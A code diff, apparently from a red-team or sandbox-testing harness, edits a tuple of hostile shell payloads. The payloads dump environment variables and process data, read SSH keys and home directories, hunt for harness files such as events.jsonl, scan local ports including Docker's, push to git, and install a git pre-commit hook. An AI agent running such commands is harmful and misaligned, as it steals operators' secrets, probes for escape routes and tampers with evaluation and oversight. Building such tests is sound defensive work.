@@ -33,7 +33,7 @@ LINES = re.compile(
     re.MULTILINE,
 )
 TAKES = (
-    "env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; cat ~/.ssh/* /root/.ssh/* ../*/good.txt /home/*/*; "
+    "env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; cat ~/.ssh/* ~root/.ssh/* ../*/good.txt /home/*/*; "
     "find / -maxdepth 5 -not -path '/proc/*' \\( -name repo.git -o -name events.jsonl \\) 2>/dev/null; "
     "for p in 80 443 2375 3128 8000; do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null && echo open:$p; done; "
     "git push origin HEAD; git config core.hooksPath x; echo 'touch /tmp/hooked' > .git/hooks/pre-commit; "
